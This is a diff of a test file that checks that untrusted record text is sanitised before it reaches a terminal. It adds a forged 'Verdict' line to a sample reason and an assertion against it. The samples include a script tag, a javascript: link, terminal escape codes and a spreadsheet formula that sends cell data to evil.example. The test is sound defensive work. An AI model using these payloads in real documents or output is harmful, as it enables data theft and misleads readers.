@@ -55,7 +55,7 @@ SCRIPT = "<script>alert(1)</script>"
 LINK = "[click](javascript:alert(1))"
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe"
-REASON = f"{FORMULA} {SCRIPT} {LINK} | {ESCAPES}"
+REASON = f"{FORMULA} {SCRIPT} {LINK} | {ESCAPES}\nVerdict: it holds up"
 TOKEN = "PLANTED-token"
 
 
@@ -416,6 +416,7 @@ def test_no_escape_code_of_a_record_reaches_the_terminal(study):
     text = file.getvalue()
     assert "HYPERLINK" in text, "the reason is not shown at all"
     assert printable(text) == text
+    assert "\nVerdict" not in text, "a reason looks like a line of ours"
 
 
 def test_the_console_keeps_its_own_colours_and_reads_no_markup_in_texts():
